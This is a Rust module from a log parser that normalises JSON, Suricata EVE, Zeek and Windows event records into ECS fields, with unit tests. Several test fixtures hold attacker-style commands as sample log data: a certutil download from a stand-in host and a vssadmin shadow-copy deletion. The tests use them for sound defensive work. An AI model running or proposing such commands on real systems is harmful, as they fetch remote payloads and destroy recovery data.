//! JSON objects: plain records (keys kept at the root), Suricata EVE and Zeek.

use crate::util::{self, set, set_str};
use crate::{PResult, Parser, Reject, time};
use rampart_model::{Event, ecs, get_path};
use serde_json::{Map, Value};
use std::borrow::Cow;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Flavour {
    /// Plain JSON, unless the keys say Suricata EVE or Zeek.
    Detect,
    SuricataEve,
    Zeek,
}

fn object(text: &str) -> Result<Map<String, Value>, Reject> {
    match serde_json::from_str::<Value>(text) {
        Ok(Value::Object(map)) => Ok(map),
        Ok(Value::Array(_)) => Err(Cow::Borrowed("json record is an array, not an object")),
        Ok(_) => Err(Cow::Borrowed("json record is not an object")),
        Err(e) => Err(Cow::Owned(format!("invalid json: {e}"))),
    }
}

fn is_eve(map: &Map<String, Value>) -> bool {
    map.contains_key("event_type") && map.contains_key("src_ip")
}

fn is_zeek(map: &Map<String, Value>) -> bool {
    map.contains_key("ts") && map.contains_key("uid") && get_path(map, "id.orig_h").is_some()
}

pub(crate) fn parse(p: &Parser, text: &str, flavour: Flavour, ev: &mut Event) -> PResult {
    let map = object(text)?;
    match flavour {
        Flavour::SuricataEve if !is_eve(&map) => Err(Cow::Borrowed(
            "not a suricata eve record: no event_type and src_ip",
        )),
        Flavour::Zeek if !is_zeek(&map) => {
            Err(Cow::Borrowed("not a zeek record: no ts, uid and id.orig_h"))
        }
        Flavour::SuricataEve => {
            eve(p, map, ev);
            Ok("suricata_eve")
        }
        Flavour::Zeek => {
            zeek(p, map, ev);
            Ok("zeek_json")
        }
        Flavour::Detect if is_eve(&map) => {
            eve(p, map, ev);
            Ok("suricata_eve")
        }
        Flavour::Detect if is_zeek(&map) => {
            zeek(p, map, ev);
            Ok("zeek_json")
        }
        Flavour::Detect => {
            plain(p, map, ev);
            Ok("json")
        }
    }
}

/// A JSON body inside syslog: treated like a JSON record of any flavour.
pub(crate) fn parse_body(p: &Parser, text: &str, ev: &mut Event) -> Result<(), Reject> {
    parse(p, text, Flavour::Detect, ev).map(|_| ())
}

/// Timestamp from a JSON value: RFC 3339 text, epoch number, or numeric text.
fn timestamp_of(p: &Parser, v: &Value) -> Option<rampart_model::Timestamp> {
    match v {
        Value::Number(n) => time::epoch(&n.to_string()),
        Value::String(s) => time::loose(p, s),
        _ => None,
    }
}

/// A Windows event exported as one flat object (NXLog, OTRF Security Datasets …):
/// `Channel` and `EventID` at the top, event data beside them.
fn is_windows_flat(map: &Map<String, Value>) -> bool {
    map.get("Channel").is_some_and(Value::is_string) && map.contains_key("EventID")
}

/// A Windows event rendered as the `evtx` crate (and `evtx_dump -o jsonl`) writes it, or as
/// Rampart stores one: `{"Event": {"System": {…}, "EventData": {…}}}`.
fn is_evtx_json(map: &Map<String, Value>) -> bool {
    map.get("Event")
        .and_then(|e| e.get("System"))
        .is_some_and(Value::is_object)
}

fn plain(p: &Parser, mut map: Map<String, Value>, ev: &mut Event) {
    let evtx = is_evtx_json(&map);
    if evtx && let Some(event) = map.get_mut("Event") {
        // `#attributes` / `#text` as an EVTX file read here would have them.
        crate::evtx::normalise(event);
    }
    let windows = !evtx && is_windows_flat(&map);
    let ts = ["@timestamp", "timestamp", "time", "ts"]
        .iter()
        .chain(if windows {
            // System time, NXLog's event time, then Sysmon's own UTC time.
            &["TimeCreated", "EventTime", "UtcTime"][..]
        } else {
            &[]
        })
        .find_map(|k| map.get(*k).and_then(|v| timestamp_of(p, v)));
    let (message, from_key) = if map.contains_key("message") {
        (None, None)
    } else {
        ["msg", "log"]
            .iter()
            .find_map(|k| {
                map.get(*k)
                    .and_then(Value::as_str)
                    .map(|m| (Some(m.to_owned()), Some(*k)))
            })
            .unwrap_or((None, None))
    };
    for (k, v) in map {
        ev.fields.insert(k, v);
    }
    if let Some(m) = message {
        ev.fields.insert(ecs::MESSAGE.to_owned(), Value::String(m));
    }
    if evtx {
        crate::evtx::extract_windows_ecs(ev, &crate::evtx::EVTX);
    } else if windows {
        crate::evtx::extract_windows_ecs(ev, &crate::evtx::FLAT_JSON);
    }
    if let Some(ts) = ts {
        ev.timestamp = ts;
    }
    if !evtx && !windows {
        shipped_line(p, from_key, ev);
    }
}

/// A shipper's record of one line of a log file — Filebeat, Elastic Agent and Vector put
/// the line in `message`, Fluent Bit's tail input in `log` — is parsed as the syslog line
/// it holds, as Elastic's system module does: the line's program, pid, login fields and
/// time join the record (its own keys win, so `host.name` stays the shipping machine's and
/// the line's host goes to `host.hostname`), `message` becomes the line's message (the whole
/// line stays in the raw record, `event.original`), and the shipper's time of reading
/// moves to `event.created`.
fn shipped_line(p: &Parser, from_key: Option<&str>, ev: &mut Event) {
    match ev.fields.get(ecs::MESSAGE) {
        Some(Value::String(line)) if crate::syslog::is_log_line(p, line) => {}
        _ => return,
    }
    // The line is parsed into the event itself, with the record's keys set aside and
    // merged back over what the line gave.
    let mut record = std::mem::take(&mut ev.fields);
    let read_at = ev.timestamp;
    let parsed = match record.get(ecs::MESSAGE) {
        Some(Value::String(line)) => {
            crate::syslog::parse(p, line, crate::syslog::Variant::Either, ev).is_ok()
        }
        _ => false,
    };
    let mut line_fields = std::mem::replace(&mut ev.fields, Map::new());
    if !parsed {
        ev.fields = record;
        ev.timestamp = read_at;
        return;
    }
    if let Some(key) = from_key {
        // Fluent Bit's `log` string: now `message` (and in the raw record); `log` is ECS's.
        record.remove(key);
    }
    if let Some(Value::Object(host)) = line_fields.get_mut("host")
        && let Some(name) = host.remove("name")
    {
        if get_path(&record, ecs::HOST_NAME).is_none() {
            host.insert("name".to_owned(), name);
        } else {
            host.insert("hostname".to_owned(), name);
        }
    }
    if let Some(m) = line_fields.remove(ecs::MESSAGE) {
        record.insert(ecs::MESSAGE.to_owned(), m);
    }
    merge_absent(&mut record, line_fields);
    if ev.timestamp != read_at {
        rampart_model::fields::insert_path_if_absent(
            &mut record,
            "event.created",
            Value::String(read_at.to_rfc3339()),
        );
    }
    ev.fields = record;
}

/// Add `from`'s values where `into` has nothing at their path.
fn merge_absent(into: &mut Map<String, Value>, from: Map<String, Value>) {
    for (k, v) in from {
        match (into.get_mut(&k), v) {
            (None, v) => {
                into.insert(k, v);
            }
            (Some(Value::Object(existing)), Value::Object(more)) => merge_absent(existing, more),
            (Some(_), _) => {}
        }
    }
}

fn copy_str(ev: &mut Event, src: &Map<String, Value>, from: &str, to: &str) {
    if let Some(v) = get_path(src, from).and_then(util::value_text) {
        set_str(ev, to, &v);
    }
}

fn copy_ip(ev: &mut Event, src: &Map<String, Value>, from: &str, to: &str) {
    if let Some(v) = get_path(src, from).and_then(Value::as_str) {
        util::set_ip(ev, to, v);
    }
}

fn copy_u64(ev: &mut Event, src: &Map<String, Value>, from: &str, to: &str) {
    if let Some(n) = get_path(src, from).and_then(util::value_u64) {
        set(ev, to, n);
    }
}

fn copy_transport(ev: &mut Event, src: &Map<String, Value>, from: &str) {
    if let Some(t) = get_path(src, from)
        .and_then(util::value_text)
        .and_then(|v| util::transport(&v))
    {
        set(ev, ecs::NETWORK_TRANSPORT, t);
    }
}

fn eve(p: &Parser, map: Map<String, Value>, ev: &mut Event) {
    if let Some(ts) = map.get("timestamp").and_then(|v| timestamp_of(p, v)) {
        ev.timestamp = ts;
    }
    copy_ip(ev, &map, "src_ip", ecs::SOURCE_IP);
    copy_u64(ev, &map, "src_port", ecs::SOURCE_PORT);
    copy_ip(ev, &map, "dest_ip", ecs::DESTINATION_IP);
    copy_u64(ev, &map, "dest_port", ecs::DESTINATION_PORT);
    copy_transport(ev, &map, "proto");
    if let Some(app) = map.get("app_proto").and_then(Value::as_str)
        && app != "failed"
    {
        set(ev, ecs::NETWORK_PROTOCOL, app.to_ascii_lowercase());
    }
    copy_str(ev, &map, "community_id", ecs::NETWORK_COMMUNITY_ID);
    copy_u64(ev, &map, "flow.bytes_toserver", ecs::SOURCE_BYTES);
    copy_u64(ev, &map, "flow.bytes_toclient", ecs::DESTINATION_BYTES);
    copy_str(ev, &map, "host", ecs::OBSERVER_HOSTNAME);
    let event_type = map
        .get("event_type")
        .and_then(Value::as_str)
        .unwrap_or_default();
    set(ev, ecs::EVENT_MODULE, "suricata");
    set(ev, ecs::EVENT_DATASET, format!("suricata.{event_type}"));
    if event_type == "alert" {
        set(ev, ecs::EVENT_KIND, ecs::kind::ALERT);
        copy_str(ev, &map, "alert.signature", ecs::RULE_NAME);
        copy_str(ev, &map, "alert.signature_id", ecs::RULE_ID);
        copy_u64(ev, &map, "alert.severity", ecs::EVENT_SEVERITY);
        copy_str(ev, &map, "alert.action", ecs::EVENT_ACTION);
        copy_str(ev, &map, "alert.signature", ecs::MESSAGE);
    }
    copy_str(ev, &map, "dns.rrname", ecs::DNS_QUESTION_NAME);
    copy_str(ev, &map, "http.hostname", ecs::URL_DOMAIN);
    copy_str(ev, &map, "http.url", ecs::URL_ORIGINAL);
    copy_str(ev, &map, "http.http_method", ecs::HTTP_REQUEST_METHOD);
    copy_u64(ev, &map, "http.status", ecs::HTTP_RESPONSE_STATUS_CODE);
    copy_str(ev, &map, "http.http_user_agent", ecs::USER_AGENT_ORIGINAL);
    util::namespace(&mut ev.fields, "suricata").insert("eve".into(), Value::Object(map));
}

fn zeek(p: &Parser, map: Map<String, Value>, ev: &mut Event) {
    if let Some(ts) = map.get("ts").and_then(|v| timestamp_of(p, v)) {
        ev.timestamp = ts;
    }
    copy_ip(ev, &map, "id.orig_h", ecs::SOURCE_IP);
    copy_u64(ev, &map, "id.orig_p", ecs::SOURCE_PORT);
    copy_ip(ev, &map, "id.resp_h", ecs::DESTINATION_IP);
    copy_u64(ev, &map, "id.resp_p", ecs::DESTINATION_PORT);
    copy_transport(ev, &map, "proto");
    copy_str(ev, &map, "service", ecs::NETWORK_PROTOCOL);
    copy_str(ev, &map, "community_id", ecs::NETWORK_COMMUNITY_ID);
    copy_u64(ev, &map, "orig_bytes", ecs::SOURCE_BYTES);
    copy_u64(ev, &map, "resp_bytes", ecs::DESTINATION_BYTES);
    copy_str(ev, &map, "query", ecs::DNS_QUESTION_NAME);
    copy_str(ev, &map, "host", ecs::URL_DOMAIN);
    copy_str(ev, &map, "uri", ecs::URL_ORIGINAL);
    copy_str(ev, &map, "method", ecs::HTTP_REQUEST_METHOD);
    copy_u64(ev, &map, "status_code", ecs::HTTP_RESPONSE_STATUS_CODE);
    copy_str(ev, &map, "user_agent", ecs::USER_AGENT_ORIGINAL);
    set(ev, ecs::EVENT_MODULE, "zeek");
    ev.fields.insert("zeek".to_owned(), Value::Object(map));
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Format, ParserConfig};
    use rampart_model::{Origin, OriginKind};
    use serde_json::json;

    fn run(format: Format, line: &str) -> Event {
        let p = Parser::new(ParserConfig {
            format,
            ..Default::default()
        })
        .expect("valid config");
        p.parse(line.as_bytes(), Origin::new(OriginKind::Import, "t"))
    }

    /// A log file's line as shippers send it (Filebeat/Elastic Agent, Fluent Bit's tail,
    /// Vector's file source) is parsed as the syslog line it holds.
    #[test]
    fn shipped_log_lines_are_parsed() {
        let line = "Dec 10 11:04:43 LabSZ sshd[25544]: Failed password for root from 183.62.140.253 port 5022 ssh2";
        let filebeat = json!({
            "@timestamp": "2024-12-10T11:04:45.120Z",
            "message": line,
            "host": {"name": "labsz.corp.example", "ip": ["10.0.0.5"]},
            "agent": {"type": "filebeat", "version": "8.15.0"},
            "log": {"file": {"path": "/var/log/auth.log"}, "offset": 1234},
            "input": {"type": "filestream"}
        });
        let ev = run(Format::Auto, &filebeat.to_string());
        assert_eq!(ev.parser, "json");
        for (path, want) in [
            ("host.name", json!("labsz.corp.example")),
            ("host.hostname", json!("LabSZ")),
            ("host.ip", json!(["10.0.0.5"])),
            ("process.name", json!("sshd")),
            ("process.pid", json!(25544)),
            ("log.syslog.appname", json!("sshd")),
            ("log.file.path", json!("/var/log/auth.log")),
            ("event.outcome", json!("failure")),
            ("user.name", json!("root")),
            ("source.ip", json!("183.62.140.253")),
            (
                "message",
                json!("Failed password for root from 183.62.140.253 port 5022 ssh2"),
            ),
            ("event.created", json!("2024-12-10T11:04:45.12Z")),
        ] {
            assert_eq!(ev.get(path).map(|v| v.into_owned()), Some(want), "{path}");
        }
        // The line's own time (its year from the clock: Dec 10 of this year or the last).
        assert!(ev.timestamp.to_rfc3339().ends_with("-12-10T11:04:43Z"));

        // Fluent Bit's tail: the line in `log`, no host.
        let ev = run(
            Format::Auto,
            &json!({"date": 1733828683.0, "log": line}).to_string(),
        );
        assert_eq!(ev.get_str("host.name").as_deref(), Some("LabSZ"));
        assert_eq!(ev.get_str("user.name").as_deref(), Some("root"));
        assert_eq!(ev.get_str("log.syslog.appname").as_deref(), Some("sshd"));
        assert!(!matches!(ev.get("log").as_deref(), Some(Value::String(_))));

        // Messages that are not whole syslog lines are left as they are.
        for message in ["user logged in", "Dec 10 11:04:43 nightly backup done"] {
            let ev = run(Format::Auto, &json!({"message": message}).to_string());
            assert_eq!(ev.get_str("message").as_deref(), Some(message));
            assert_eq!(ev.get_str("host.hostname"), None);
        }
    }

    /// Windows events exported flat (NXLog, OTRF Security Datasets) get the same ECS
    /// fields as the EVTX rendering of the event.
    #[test]
    fn flat_windows_exports_get_ecs_fields() {
        let ev = run(
            Format::Auto,
            r#"{"EventTime":"2024-03-10 11:00:01","Hostname":"nx1.corp.example","EventID":1,"SourceName":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://x/a","ProcessId":"4242","User":"CORP\\ann"}"#,
        );
        assert_eq!(ev.parse_error, None);
        for (path, want) in [
            ("host.name", "nx1.corp.example"),
            ("event.code", "1"),
            ("event.provider", "Microsoft-Windows-Sysmon"),
            ("process.executable", r"C:\Windows\System32\certutil.exe"),
            ("process.name", "certutil.exe"),
            ("process.command_line", "certutil -urlcache -f http://x/a"),
            ("process.pid", "4242"),
            ("user.name", "ann"),
            ("user.domain", "CORP"),
            ("Channel", "Microsoft-Windows-Sysmon/Operational"),
        ] {
            assert_eq!(ev.get_str(path).as_deref(), Some(want), "{path}");
        }
        assert_eq!(ev.timestamp.to_rfc3339(), "2024-03-10T11:00:01Z");
        // Security 4625 from the OTRF shape: a failed logon with its source address.
        let ev = run(
            Format::Auto,
            r#"{"@timestamp":"2020-09-21T19:03:42.000Z","Computer":"dc1","EventID":4625,"Provider_Name":"Microsoft-Windows-Security-Auditing","Channel":"Security","TargetUserName":"admin","IpAddress":"203.0.113.9"}"#,
        );
        assert_eq!(ev.get_str("event.outcome").as_deref(), Some("failure"));
        assert_eq!(ev.get_str("source.ip").as_deref(), Some("203.0.113.9"));
        assert_eq!(ev.get_str("host.name").as_deref(), Some("dc1"));
        // `evtx_dump -o jsonl` output: attributes normalised as when reading the file, the
        // system time as the event time, the same ECS fields.
        let ev = run(
            Format::Auto,
            r##"{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,"TimeCreated":{"#attributes":{"SystemTime":"2019-03-19T23:34:26.148914Z"}},"Execution":{"#attributes":{"ProcessID":1234}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws1.corp"},"EventData":{"Image":"C:\\Windows\\System32\\vssadmin.exe","CommandLine":"vssadmin.exe delete shadows /all /quiet","User":"CORP\\ann"}}}"##,
        );
        assert_eq!(ev.parse_error, None);
        assert_eq!(ev.timestamp.to_rfc3339(), "2019-03-19T23:34:26.148914Z");
        for (path, want) in [
            ("Event.System.Provider.Name", "Microsoft-Windows-Sysmon"),
            ("Event.System.Execution.ProcessID", "1234"),
            ("host.name", "ws1.corp"),
            ("process.name", "vssadmin.exe"),
            ("user.name", "ann"),
        ] {
            assert_eq!(ev.get_str(path).as_deref(), Some(want), "{path}");
        }
        // A JSON object that merely has a `Channel` key is not taken for Windows.
        let ev = run(Format::Auto, r#"{"Channel":"news","text":"hi"}"#);
        assert_eq!(ev.get_str("event.code"), None);
    }

    #[test]
    fn json_records() {
        // (format, line, parser, expected fields, expected timestamp)
        type Case<'a> = (Format, &'a str, &'a str, &'a [(&'a str, Value)], &'a str);
        let cases: &[Case] = &[
            (
                Format::Auto,
                r#"{"@timestamp":"2024-05-01T10:00:00.5Z","msg":"hello","user":{"name":"bob"},"a.b":1}"#,
                "json",
                &[
                    ("message", json!("hello")),
                    ("msg", json!("hello")),
                    ("user.name", json!("bob")),
                    ("a.b", json!(1)),
                ],
                "2024-05-01T10:00:00.5Z",
            ),
            (
                Format::Json,
                r#"{"ts":1700000000.25,"log":"x"}"#,
                "json",
                &[("message", json!("x"))],
                "2023-11-14T22:13:20.25Z",
            ),
            (
                Format::Json,
                r#"{"time":1700000000000}"#,
                "json",
                &[],
                "2023-11-14T22:13:20Z",
            ),
            (
                Format::Auto,
                r#"{"timestamp":"2019-01-23T10:51:03.123456+0000","flow_id":1,"event_type":"alert","src_ip":"10.0.0.1","src_port":5555,"dest_ip":"10.0.0.2","dest_port":80,"proto":"TCP","app_proto":"http","alert":{"action":"allowed","signature_id":2100498,"signature":"GPL ATTACK_RESPONSE id check returned root","severity":2},"flow":{"bytes_toserver":100,"bytes_toclient":200}}"#,
                "suricata_eve",
                &[
                    ("source.ip", json!("10.0.0.1")),
                    ("source.port", json!(5555)),
                    ("destination.port", json!(80)),
                    ("network.transport", json!("tcp")),
                    ("network.protocol", json!("http")),
                    (
                        "rule.name",
                        json!("GPL ATTACK_RESPONSE id check returned root"),
                    ),
                    ("rule.id", json!("2100498")),
                    ("event.severity", json!(2)),
                    ("event.kind", json!("alert")),
                    ("source.bytes", json!(100)),
                    ("destination.bytes", json!(200)),
                    ("suricata.eve.flow_id", json!(1)),
                    ("suricata.eve.alert.signature_id", json!(2100498)),
                ],
                "2019-01-23T10:51:03.123456Z",
            ),
            (
                Format::Auto,
                r#"{"ts":1591367999.305988,"uid":"CMdzit1AMNsmfAIiQc","id.orig_h":"192.168.4.76","id.orig_p":36844,"id.resp_h":"192.168.4.1","id.resp_p":53,"proto":"udp","service":"dns","orig_bytes":36,"resp_bytes":52}"#,
                "zeek_json",
                &[
                    ("source.ip", json!("192.168.4.76")),
                    ("destination.port", json!(53)),
                    ("network.transport", json!("udp")),
                    ("network.protocol", json!("dns")),
                    ("source.bytes", json!(36)),
                    ("zeek.uid", json!("CMdzit1AMNsmfAIiQc")),
                    ("zeek.id.orig_p", json!(36844)),
                ],
                "2020-06-05T14:39:59.305988Z",
            ),
        ];
        for (format, line, parser, want, ts) in cases {
            let ev = run(*format, line);
            assert_eq!(ev.parse_error, None, "{line}");
            assert_eq!(ev.parser, *parser, "{line}");
            for (path, value) in *want {
                assert_eq!(
                    ev.get(path).map(|v| v.into_owned()).as_ref(),
                    Some(value),
                    "{line}: {path}"
                );
            }
            let got = ev.timestamp.to_rfc3339();
            let got = got.trim_end_matches('Z').trim_end_matches('0');
            assert_eq!(
                got,
                ts.trim_end_matches('Z').trim_end_matches('0'),
                "{line}"
            );
        }
    }

    #[test]
    fn bad_json_is_rejected_with_raw_kept() {
        let cases: &[(Format, &str, &str)] = &[
            (Format::Json, r#"{"a": "#, "invalid json"),
            (
                Format::Json,
                "[1,2]",
                "json record is an array, not an object",
            ),
            (Format::Json, "42", "json record is not an object"),
            (
                Format::SuricataEve,
                r#"{"a":1}"#,
                "not a suricata eve record",
            ),
            (Format::ZeekJson, r#"{"ts":1}"#, "not a zeek record"),
        ];
        for (format, line, want) in cases {
            let ev = run(*format, line);
            let err = ev.parse_error.clone().unwrap_or_default();
            assert!(err.starts_with(want), "{line}: {err}");
            assert_eq!(ev.raw.as_text(), *line);
        }
    }
}
